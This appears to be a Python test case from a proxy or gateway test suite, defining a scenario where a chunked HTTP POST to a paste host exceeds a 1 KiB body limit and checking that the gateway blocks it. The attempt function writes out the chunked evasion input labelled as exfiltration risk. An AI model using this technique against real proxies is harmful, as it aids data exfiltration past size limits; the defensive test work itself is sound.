"""A body whose length nobody says beforehand.

Chunked, each chunk below the limit: a check of the length in the head finds none. What counts is what
has come in so far; the last chunks, beyond the limit, must not arrive.

Not covered: the bytes up to the limit, which the rule permits.
"""

ATTACK = {
    "title": "Chunked body beyond the limit",
    "group": "permitted",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["RFC 9112 section 7.1", "ATT&CK T1030", "CWE-770"],
    "arrives": [{"what": "request", "name": "paste.test", "path": "/upload", "more_bytes": 1024}],
    "stopped": [{"reason": ["body-too-large"], "entry": ["transparent"], "where": {"path": "/upload"}}],
    "rules": "  - {proxy: paste.test, ports: [80], protocol: http, methods: [POST], max-body: 1KiB}\n",
    "reachable": ["paste.test"],
}


def attempt(kit):
    head = kit.get("/upload", "paste.test", "POST", ["Transfer-Encoding: chunked"])
    chunks = [f"200\r\n{letter * 512}\r\n" for letter in "abcdef"]
    kit.talk("paste.test", 80, [head, *chunks, "0\r\n\r\n"], wait=False)
